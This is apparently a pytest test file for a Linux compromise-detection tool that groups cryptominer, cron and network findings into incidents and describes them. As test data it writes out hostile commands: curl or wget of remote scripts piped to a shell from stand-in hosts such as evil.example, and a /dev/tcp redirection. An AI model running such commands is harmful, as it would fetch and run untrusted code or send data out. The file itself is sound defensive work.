"""Findings become incidents by what they share, are judged by how independent they are, and are told in a sentence."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extension.incidents import Finding, Incident, group, sentence, things_of, told
from extension.pack.model import load_pack, shipped_pack
from extension.pack.parts import STAGES
from tables.indicators import pools
from tests.lab.wallets import XMR
from tests.support.made_triage import HOSTILE

QUERIES = {query.name: query for query in load_pack(shipped_pack()).queries()}
START = 1_795_450_000


def found(name: str, **row: object) -> Finding:
    return Finding(QUERIES[name], {column: str(value) for column, value in row.items()})


def process(name: str, pid: int, program: str, **row: object) -> Finding:
    values = {"process_name": program, "exe_path": f"/opt/{program}", "parent": 1, "parent_name": "systemd", "start_time": START}
    return found(name, pid=pid, **{**values, **row})


def two(name: str, **row: object) -> tuple[Finding, Finding]:
    """Two processes that have only `row` in common."""
    return process(name, 7, "a", **row), process(name, 8, "b", **row)


def things(name: str, **row: object) -> set[tuple[str, str]]:
    return {(one.kind, one.value) for one in found(name, **row).things if not one.is_weak}


MINER = process("miner_process", 7, "kswapd0", exe_path="/var/tmp/.x/kswapd0", pool="198.51.100.7:3333", wallet=XMR, coin="XMR")
CONNECTION = process(
    "pool_connection", 7, "kswapd0", remote_address="198.51.100.7", remote_port=3333, matched="198.51.100.7:3333", pool="Nanopool"
)
JOB = found(
    "cron_download_and_run", path="/etc/cron.d/x", command="curl http://203.0.113.9/x.sh | sh", program_path="/usr/bin/curl",
    program_package="curl",
)  # fmt: skip


@pytest.mark.parametrize(
    ("other", "is_one"),
    [
        (CONNECTION, True),
        (process("odd_place_program", 7, "kswapd0"), True),
        (process("odd_place_program", 7, "other", start_time=START + 60), False),
        (process("odd_place_program", 9, "other", exe_path="/var/tmp/.x/other"), True),
        (process("odd_place_program", 9, "other", exe_path="/var/tmp/other"), False),
        (process("odd_place_program", 9, "child", parent=7), True),
        (process("odd_place_program", 9, "child", parent=7, start_time=START - 60), False),
        (found("proc_covered_by_mount", path="/proc/7"), True),
        (found("proc_covered_by_mount", path="/proc/77"), False),
        (found("rc_local_suspicious_command", path="/etc/rc.local", line=2, command="nohup /var/tmp/.x/kswapd0 &"), True),
        (found("systemd_unit_odd_program", unit="a.service", path="/etc/a.service", program_path="/var/tmp/.x/kswapd0"), True),
        (found("weak_ssh_key", username="root", path="/root/.ssh/authorized_keys", fingerprint="SHA256:x"), False),
        (found("miner_config_file", config_path="/opt/c.json", wallets=XMR), True),
        (found("hidden_connection", remote_address="198.51.100.7", remote_port=3333), True),
        (found("hidden_connection", remote_address="198.51.100.8", remote_port=3333), False),
    ],
)
def test_findings_are_one_incident_when_they_share_a_thing(other: Finding, is_one: bool) -> None:
    assert [len(one.linked) for one in group([MINER, other])] == (
        [2] if is_one else [1] if len(group([MINER, other])) == 1 else [1, 1]
    )
    assert any(other in one.linked and MINER in one.linked for one in group([MINER, other])) == is_one


@pytest.mark.parametrize(
    ("one", "other"),
    [
        # root, a shell, a packaged program, an init system as parent, one crontab of many jobs, a service, nothing at all
        (found("uid_zero_account", username="root"), found("empty_password", username="root")),
        two("odd_place_program", exe_path="/bin/sh"),
        two("odd_place_program", exe_path="/usr/bin/x"),
        two("deleted_program", parent=640, parent_name="sshd"),
        (JOB, found("cron_download_and_run", path="/etc/cron.d/x", command="wget -qO- http://203.0.113.10/y | sh")),
        (
            process("pool_connection", 7, "a", unit="redis.service", remote_address="203.0.113.7"),
            process("pool_connection", 8, "b", unit="redis.service", remote_address="203.0.113.8"),
        ),
        (found("process_census_mismatch", processes_hidden=1), found("unseen_cpu_use", unseen_cores="1.0")),
        (found("hidden_connection", remote_address="127.0.0.1"), found("hidden_connection", remote_address="127.0.0.1")),
        (found("executables_in_memory_folders", path="/dev/shm/a"), found("executables_in_memory_folders", path="/dev/shm/b")),
    ],
)  # fmt: skip
def test_what_every_host_has_joins_nothing(one: Finding, other: Finding) -> None:
    assert len(group([one, other])) == 2


def test_grave_findings_that_share_nothing_go_with_the_one_incident_that_explains_them() -> None:
    key = found("known_malware_key", username="root", path="/root/.ssh/authorized_keys", fingerprint="SHA256:x", mtime=START - 60)
    guessed = found(
        "brute_force_login_succeeded", username="root", remote_address="203.0.113.1", first_success_after_failures=START
    )
    weak = found("weak_ssh_key", username="kim", path="/home/kim/.ssh/authorized_keys", fingerprint="SHA256:y")
    old = found("known_malware_key", username="kim", path="/k", fingerprint="SHA256:z", mtime=START - 90 * 86400)
    first, *others = group([key, MINER, guessed, weak, old])
    assert set(first.beside) == {key, guessed} and [one.linked for one in others] == [(old,), (weak,)]
    # Of two that mine nobody can tell which it belongs to.
    second = process("miner_process", 8, "xmrig", exe_path="/opt/xmrig", pool="203.0.113.77:3333")
    assert all(not one.beside for one in group([key, MINER, second]))


def test_a_pool_connection_whose_process_is_hidden_goes_with_the_miner() -> None:
    unowned = found("unowned_pool_connection", remote_address="203.0.113.7", remote_port=3333, matched="203.0.113.7:3333")
    (incident,) = group([MINER, unowned])
    assert incident.beside == (unowned,) and "198.51.100.7:3333" in sentence(incident, "en")


@pytest.mark.parametrize(
    ("findings", "confidence", "is_compromise"),
    [
        ([process("memory_only_program", 7, "a")], "low", False),
        ([process("memory_only_program", 7, "a"), process("program_file_mismatch", 7, "a")], "low", False),
        ([process("memory_only_program", 7, "a"), process("miner_process_likely", 7, "a")], "medium", True),
        ([process("exposed_entry_service", 7, "redis-server", service="redis")], "low", False),
        ([MINER], "medium", True),
        ([MINER, process("hidden_processes", 7, "kswapd0")], "high", True),
    ],
)
def test_one_weak_finding_is_no_compromise_and_independent_ones_are(
    findings: list[Finding], confidence: str, is_compromise: bool
) -> None:
    (incident,) = group(findings)
    assert (incident.confidence, incident.is_compromise) == (confidence, is_compromise)


_NAMES = sorted(name for name, query in QUERIES.items() if query.kind == "detection")
_FINDINGS = st.lists(
    st.builds(
        lambda name, pid, path: found(name, pid=pid, path=path, exe_path=path, start_time=START, username="x"),
        st.sampled_from(_NAMES),
        st.integers(2, 4),
        st.sampled_from(["/opt/a", "/opt/b", "/var/tmp/c/d"]),
    ),
    max_size=8,
)


@given(_FINDINGS, _FINDINGS)
def test_more_evidence_never_lowers_the_verdict_and_no_finding_is_lost(few: list[Finding], more: list[Finding]) -> None:
    def judged(findings: list[Finding]) -> tuple[bool, int]:
        incidents = group(findings)
        assert sorted(map(id, findings)) == sorted(id(one) for incident in incidents for one in incident.findings)
        worst = max((("low", "medium", "high").index(one.confidence) for one in incidents), default=0)
        return any(one.is_compromise for one in incidents), worst

    (before, surest), (after, surer) = judged(few), judged(few + more)
    assert after >= before and surer >= surest


def test_a_sentence_says_what_is_known_and_is_silent_on_the_rest() -> None:
    (incident,) = group([MINER, CONNECTION, found("preloaded_library", path="/usr/lib/libx.so", pid=7, start_time=START), JOB])
    assert sentence(incident, "en") == (
        "kswapd0 (pid 7) mines XMR at 198.51.100.7:3333 (Nanopool) since 2026-11-23 16:06 UTC, "
        "hidden by the preloaded library /usr/lib/libx.so, started again by a job in /etc/cron.d/x."
    )
    assert "kswapd0（pid 7）自 2026-11-23 16:06 UTC 起在 198.51.100.7:3333（Nanopool） 挖矿（XMR）" in sentence(incident, "zh")
    (bare,) = group([found("miner_process", pid=7)])
    assert sentence(bare, "en") == "? (pid 7) mines."
    (account,) = group([found("uid_zero_account", username="sysbak")])
    assert sentence(account, "en") == "found the second root account sysbak."


@pytest.mark.parametrize("language", ["en", "zh"])
@pytest.mark.parametrize("name", _NAMES)
def test_no_text_of_the_pack_lets_a_hostile_value_through_or_needs_one(name: str, language: str) -> None:
    query = QUERIES[name]
    row = dict.fromkeys({column for columns in query.things.values() for column in columns} | {"cmdline", "service"}, HOSTILE)
    for values in (row, {}, dict.fromkeys(row, "<pid>[<pid>]")):
        finding = Finding(query, values)
        text = told(finding, language) + sentence(Incident((finding,)), language)
        assert not any(char in text for char in "\x1b\x07\x00\u202e\n") and len(text) < 4000


def test_things_are_read_by_kind() -> None:
    assert things("miner_process", pid=7, start_time=5, pool="stratum+tcp://Pool.Example.net:3333, 198.51.100.7:1") >= {
        ("process", "7@5"), ("pool", "pool.example.net:3333"), ("address", "pool.example.net"), ("address", "198.51.100.7"),
    }  # fmt: skip
    assert things("cron_download_and_run", command="/opt/x/run  -o\t/dev/null >/dev/tcp/203.0.113.9/80") == {
        ("job", "/opt/x/run -o /dev/null >/dev/tcp/203.0.113.9/80"), ("file", "/opt/x/run"), ("address", "203.0.113.9"),
    }  # fmt: skip
    assert things("odd_place_program", exe_path="/root/.configrc5/a/kswapd0 (deleted)") == {
        ("file", "/root/.configrc5/a/kswapd0"), ("folder", "/root/.configrc5"),
    }  # fmt: skip
    # A hash of the distribution's own is everybody's, whatever it runs.
    run = {"pid": "7", "start_time": "5", "exe_sha256": "a" * 64}
    assert ("hash", "a" * 64) in things("miner_process", exe_path="/opt/python3.11", **run)
    assert ("hash", "a" * 64) in things("miner_process", exe_path="/usr/bin/xmr", **run)
    assert ("hash", "a" * 64) not in things("miner_process", exe_path="/usr/bin/python3.11", **run)
    assert things("cron_hidden_home_program", program_path="/home/kim/.local/bin/x") == {("file", "/home/kim/.local/bin/x")}


@pytest.mark.parametrize(
    ("command", "address"),
    [
        ("curl -s https://raw.githubusercontent.com/zz91/aa/main/run.sh | sh", "raw.githubusercontent.com/zz91/aa/main/run.sh"),
        ("wget -qO- 'https://pastebin.com/raw/Ab12Cd34'", "pastebin.com/raw/Ab12Cd34"),
        ("curl https://evil.example/aa/run.sh | sh", "evil.example"),
        # What everybody fetches there.
        ("curl -L https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz", None),
        ("curl https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash", None),
        ("curl https://get.docker.com | sh", None),
        ("curl -s ifconfig.me; curl https://ipinfo.io", None),
    ],
)
def test_a_site_that_everybody_uses_is_told_by_what_lies_there(command: str, address: str | None) -> None:
    told_there = {value for kind, value in things("cron_download_and_run", command=command) if kind == "address"}
    assert told_there == ({address} if address else set())


@pytest.mark.parametrize("text", ["/a" * 500_000, "http://" * 200_000, "x://y" * 200_000, "/dev/tcp/" * 100_000, " " * 1_000_000])
def test_what_an_attacker_writes_is_read_in_bounded_time(text: str) -> None:
    row = {"command": text, "pid": text, "path": text, "program_path": text, "pool": text, "cmdline": text}
    for name in ("cron_download_and_run", "miner_process"):
        assert len(things_of(QUERIES[name], row)) < 100


def test_every_detection_has_a_place_in_the_chain() -> None:
    assert all(QUERIES[name].stage in STAGES and QUERIES[name].says for name in _NAMES)


def test_the_lists_are_read_once_however_many_addresses_there_are(monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[str] = []
    data = pools.read_data
    monkeypatch.setattr(pools, "read_data", lambda name: (read.append(name), data(name))[1])
    pools.builtin_shared_networks.cache_clear()
    for number in range(20):
        assert things("pool_connection", remote_address=f"203.0.113.{number}") >= {("address", f"203.0.113.{number}")}
    assert sorted(read) == sorted(set(read))


@pytest.mark.parametrize(
    ("command", "addresses"),
    [
        ("(curl -s 203.0.113.7/cf.sh||wget -q -O- 203.0.113.7/cf.sh)|bash", {"203.0.113.7"}),
        ("curl -fsSL 203.0.113.7:8080/init.sh | sh", {"203.0.113.7"}),
        ("wget -q evil.example/x.sh -O- | sh", {"evil.example"}),
        ("wget -qO /tmp/x evil.example:8443/a", {"evil.example"}),
        ("curl raw.githubusercontent.com/someone/things/x.sh", {"raw.githubusercontent.com/someone/things/x.sh"}),
        # A network, a file's name, an argument that is no site, and what no program fetches.
        ("ip route add 203.0.113.0/24 dev eth0", set()),
        ("curl -sSLo lib.tar.gz/x https://evil.example/a", {"evil.example"}),
        ("curl -O evil.example/x.sh", {"evil.example"}),
        ("cat site.example/readme", set()),
        ("/usr/bin/job --version 1.2.3.4/5", set()),
    ],
)
def test_addresses_that_are_fetched_from_without_a_scheme(command: str, addresses: set[str]) -> None:
    assert {value for kind, value in things("cron_download_and_run", command=command) if kind == "address"} == addresses


@pytest.mark.parametrize("address", ["8.8.8.8", "140.82.121.4", "149.154.167.220", "169.254.169.254", "fe80::1", "224.0.0.251"])
def test_what_everybody_asks_is_nobodys_address(address: str) -> None:
    assert not {kind for kind, _value in things("suspect_program_on_network", pid="7", remote_address=address)} & {"address"}
